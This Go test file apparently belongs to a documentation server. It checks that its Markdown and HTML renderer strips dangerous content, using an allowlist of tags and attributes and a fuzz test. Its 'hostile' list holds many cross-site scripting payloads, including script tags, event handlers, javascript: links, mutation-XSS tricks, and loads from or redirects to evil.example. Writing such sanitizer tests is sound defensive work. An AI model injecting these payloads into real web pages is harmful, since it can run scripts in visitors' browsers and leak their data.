package web

import (
	"net/url"
	"slices"
	"strings"
	"testing"

	"golang.org/x/net/html"

	"github.com/docent-mcp/docent/internal/apidoc"
	"github.com/docent-mcp/docent/internal/highlight"
)

// hostile are texts that try to do more than to be read.
var hostile = []string{
	"<script>alert(1)</script>", "<ScRiPt src=//evil.example/x.js></sCrIpT>", "<script\x00>alert(1)</script>", "<<script>script>alert(1)<</script>/script>",
	"<img src=x onerror=alert(1)>", "<img src=\"x` `<script>alert(1)</script>\"` `>", "<p onclick=alert(1) ONMOUSEOVER='alert(1)'>x</p>", "<details open ontoggle=alert(1)><summary>x</summary></details>",
	"[x](javascript:alert(1))", "[x](JaVaScRiPt:alert(1))", "[x](java\nscript:alert(1))", "[x](&#106;avascript:alert(1))", "[x](data:text/html;base64,PHNjcmlwdD4=)", "[x](vbscript:x)",
	"<a href=\"java&Tab;script:alert(1)\">x</a>", "<a href=' \x01javascript:alert(1)'>x</a>", "<a href=\"javascript://%0aalert(1)\" target=_blank>x</a>", "![x](javascript:alert(1))",
	"<svg onload=alert(1)><script>alert(1)</script><use href=#x></svg>", "<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>", "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
	"<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">", "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
	"<style>body{display:none}</style>", "<p style=\"background:url(//evil.example)\">x</p>", "<link rel=stylesheet href=//evil.example/x.css>", "<p class=\"top copy\">x</p>", "<div class=notice>Install evil.</div>",
	"```code\n<script>alert(1)</script>\n```", "```code onclick=alert(1)\nlet \u202e\"</span><script>\" // <b>\n```", "<pre><code class=\"language-code top\">x</code></pre>", "<pre><code class=language-code><b onclick=alert(1)>let</b></code></pre>",
	"<form action=//evil.example><input name=q><button>x</button></form>", "<input id=q autofocus onfocus=alert(1)>", "<a id=results name=find>x</a>", "<img name=getElementById>", "<h1 id=main>x</h1>", "<form id=find><input name=action></form>",
	"<iframe srcdoc='<script>alert(1)</script>'></iframe>", "<object data=x></object><embed src=x>", "<base href=//evil.example/>", "<meta http-equiv=refresh content='0;url=//evil.example'>",
	"<img src=https://evil.example/pixel.gif alt=pixel>", "![pixel](https://evil.example/pixel.gif)", "<picture><source srcset=//evil.example/a.png><img src=//evil.example/b.png alt=b></picture>", "<video src=//evil.example poster=//evil.example/p></video>", "<audio autoplay src=//evil.example>",
	"a\u202eevil\u202c b\u2066c\u2069 \u200bd\ufeff", "\x1b[31mred\x1b[0m\x07", "\U000e0041\U000e0042", "</main></body><script>alert(1)</script>", "</pre></code><script>alert(1)</script>",
	"<template><script>alert(1)</script></template>", "<textarea></textarea><script>alert(1)</script>", "<xmp><script>alert(1)</script></xmp>", "<!--[if IE]><script>alert(1)</script><![endif]-->", "<!-- --!><script>alert(1)</script>",
	"<p lang=en dir=rtl contenteditable accesskey=x draggable=true hidden tabindex=1>x</p>", "<custom-element onconnected=x>x</custom-element>", "<a href=//evil.example ping=//evil.example/p download>x</a>", "<button formaction=javascript:alert(1)>x</button>",
	"```html\n<script>alert(1)</script>\n```", "`<script>alert(1)</script>`", "    <script>alert(1)</script>", "[x]: javascript:alert(1)\n\n[x]", "<javascript:alert(1)>", "<http://a.example/\"onmouseover=alert(1)>",
	strings.Repeat("<div>", 5000), strings.Repeat("> ", 2000) + "x", strings.Repeat("[", 5000), strings.Repeat("*a_", 3000), strings.Repeat("<b><i>", 700) + "x",
}

// allowed are the elements and attributes that prose may have on a page.
var allowed = map[string][]string{
	"p": nil, "br": nil, "hr": nil, "h1": {"id"}, "h2": {"id"}, "h3": {"id"}, "h4": {"id"}, "h5": {"id"}, "h6": {"id"}, "ul": nil, "ol": {"start"}, "li": nil, "dl": nil, "dt": nil, "dd": nil,
	"blockquote": nil, "pre": {"tabindex", "class"}, "code": nil, "kbd": nil, "samp": nil, "var": nil, "em": nil, "strong": nil, "b": nil, "i": nil, "s": nil, "del": nil, "ins": nil, "sub": nil, "sup": nil, "small": nil,
	"q": nil, "mark": nil, "table": {"tabindex"}, "thead": nil, "tbody": nil, "tfoot": nil, "tr": nil, "th": {"colspan", "rowspan"}, "td": {"colspan", "rowspan"}, "details": nil, "summary": nil, "div": nil,
	"span": {"class"}, "a": {"href", "rel", "class"},
}

// checkHarmless fails a test if HTML has more than what is allowed, and the attributes also.
func checkHarmless(t *testing.T, source, out string, also ...string) {
	t.Helper()
	nodes, err := html.Parse(strings.NewReader("<!doctype html><body>" + out))
	if err != nil {
		t.Fatalf("%q became %q: %v", source, out, err)
	}
	for n := range nodes.Descendants() {
		if n.Type == html.CommentNode {
			t.Errorf("%q: there is a comment in %q", source, out)
		}
		if n.Type != html.ElementNode || n.Data == "html" || n.Data == "head" || n.Data == "body" {
			continue
		}
		attributes, ok := allowed[n.Data]
		if !ok {
			t.Errorf("%q: there is <%s> in %q", source, n.Data, out)
		}
		for _, a := range n.Attr {
			switch {
			case !slices.Contains(attributes, a.Key) && !slices.Contains(also, a.Key):
				t.Errorf("%q: <%s> has %s in %q", source, n.Data, a.Key, out)
			case a.Key == "id" && !strings.HasPrefix(a.Val, idPrefix):
				t.Errorf("%q: the ID %q is not one of prose", source, a.Val)
			case a.Key == "class" && !slices.Contains([]string{"image", "plain", "kw", "vl", "cm"}, a.Val):
				t.Errorf("%q: the class %q is the page's", source, a.Val)
			case a.Key == "href":
				u, err := url.Parse(a.Val)
				if err != nil || u.Scheme != "" && u.Scheme != "http" && u.Scheme != "https" && u.Scheme != "mailto" {
					t.Errorf("%q: there is a link to %q", source, a.Val)
				}
			}
		}
	}
	if clean(out) != out {
		t.Errorf("%q: there are hidden characters in %q", source, out)
	}
}

// testLexis highlights blocks of code that are marked as of "code".
func testLexis(info string) *highlight.Lexis {
	if info != "code" {
		return nil
	}
	return &highlight.Lexis{Keywords: highlight.Words("let func"), LineComment: "//"}
}

func TestProse_HostileTextIsHarmless(t *testing.T) {
	for _, source := range hostile {
		p := prose{level: 3, symbol: func(string) string { return "" }, file: func(string, string) string { return "" }, lexis: testLexis}
		checkHarmless(t, source[:min(len(source), 200)], string(p.render(source)))
		checkHarmless(t, source[:min(len(source), 200)], string(p.inline("x "+source)))
		checkHarmless(t, source[:min(len(source), 200)], string(plainText(source)))
	}
}

func TestProse_KeepsWhatIsRead(t *testing.T) {
	p := prose{
		level:  3,
		lexis:  testLexis,
		symbol: func(name string) string { return map[string]string{"Client.Do": "/go/net/http@1/Client.Do"}[name] },
		file: func(name, fragment string) string {
			return map[string]string{"docs/a.md x": "/doc/a#doc-x"}[name+" "+fragment]
		},
	}
	for _, tt := range []struct{ name, md, want string }{
		{"headings begin at the level of the page", "# A\n\n## B", `<h3 id="doc-a">A</h3>` + "\n" + `<h4 id="doc-b">B</h4>`},
		{"no level of headings is skipped", "# V\n\n#### W\n\n##### X\n\n## Y\n\n# Z", `<h4 id="doc-w">W</h4>` + "\n" + `<h5 id="doc-x">X</h5>` + "\n" + `<h4 id="doc-y">Y</h4>` + "\n" + `<h3 id="doc-z">Z</h3>`},
		{"equal headings have their own IDs", "# A\n\n# A!", `<h3 id="doc-a-1">A</h3>` + "\n" + `<h3 id="doc-a-2">A!</h3>`},
		{"links within the text", "# C\n\n[c](#c)", `<a href="#doc-c">c</a>`},
		{"links to headings that are not there", "[d](#d)", `<p><span>d</span></p>`},
		{"links to files that have a page", "[a](./docs/a.md#x)", `<a href="/doc/a#doc-x">a</a>`},
		{"links to files that have none", "[a](src/main.c)", `<span>a</span>`},
		{"links to other sites", "<https://example.com/?a=b&c>", `<a href="https://example.com/?a=b&amp;c" rel="noreferrer noopener external">https://example.com/?a=b&amp;c</a>`},
		{"names of symbols in code", "See `Client.Do` or `Other`.", `<a href="/go/net/http@1/Client.Do"><code>Client.Do</code></a> or <code>Other</code>`},
		{"but not within links", "[`Client.Do`](https://example.com)", `noopener external"><code>Client.Do</code></a>`},
		{"images as links", "![A chart](https://example.com/a.png)", `<a href="https://example.com/a.png" rel="noreferrer noopener external" class="image">A chart</a>`},
		{"images within links as text", "[![Build](https://example.com/a.svg)](https://example.com)", `<span class="image">Build</span></a>`},
		{"code is highlighted", "```code\nlet x = 1 // <b>\n```", `<pre tabindex="0"><code><span class="kw">let</span> x = <span class="vl">1</span> <span class="cm">// &lt;b&gt;</span>`},
		{"code of another language is not", "```text\nlet x\n```", `<code>let x`},
		{"links in code stay", "<pre><code class=language-code>let <a href=https://example.com>x</a></code></pre>", `<code>let <a href="https://example.com"`},
		{"code within a line is not highlighted", "<code class=language-code>let x</code>", `<code>let x</code>`},
		{"HTML of a README", `<p align="center"><b>Fast</b><br/>and small</p>`, `<p><b>Fast</b><br/>and small</p>`},
		{"tables", "|a|b|\n|-|:-:|\n|1|2|", `<table tabindex="0"><thead>`},
	} {
		if got := string(p.render(tt.md)); !strings.Contains(strings.ReplaceAll(got, "\n<tr>", "<tr>"), tt.want) && !strings.Contains(strings.ReplaceAll(got, ">\n<thead", "><thead"), tt.want) {
			t.Errorf("%s: %q is not in %q", tt.name, tt.want, got)
		}
	}
}

func TestDocument_LeadsToHeadingsThatItHas(t *testing.T) {
	v := &packageView{Package: &apidoc.Package{Name: "p", Sections: []apidoc.Section{{ID: "docs/a.md", File: "docs/a.md", Title: "A", Level: 1}, {ID: "docs/a.md#use-it", File: "docs/a.md", Title: "Use it", Level: 2}}}}
	v.address = address{Language: "npm", Package: "p", Version: "1"}
	const file = "/npm/p@1/-/doc/docs/a.md"
	for _, tt := range []struct{ name, dir, fragment, want string }{
		{"docs/a.md", "", "", file}, {"a.md", "docs", "use-it", file + "#doc-use-it"}, {"docs/a.md", "", "lost", file}, {"docs/a.md#use-it", "", "", file + "#doc-use-it"}, {"b.md", "docs", "use-it", ""},
	} {
		if got := v.document(tt.name, tt.dir, tt.fragment); got != tt.want {
			t.Errorf("%s in %q with %q leads to %q, want %q", tt.name, tt.dir, tt.fragment, got, tt.want)
		}
	}
}

func TestProse_IsBounded(t *testing.T) {
	p := prose{level: 2}
	long := strings.Repeat("word **bold**\n\n", maxProse/10)
	got := string(p.render(long))
	if i := strings.Index(got, `<pre class="plain"`); i < 0 || strings.Contains(got[i:], "<strong>") || !strings.Contains(got[:i], "<strong>") {
		t.Error("the rest of a long text is not shown as it is written")
	}
}

func FuzzProse(f *testing.F) {
	for _, source := range hostile {
		if len(source) < 500 {
			f.Add(source)
		}
	}
	f.Fuzz(func(t *testing.T, source string) {
		p := prose{level: 2, lexis: testLexis}
		checkHarmless(t, source, string(p.render(source)))
	})
}
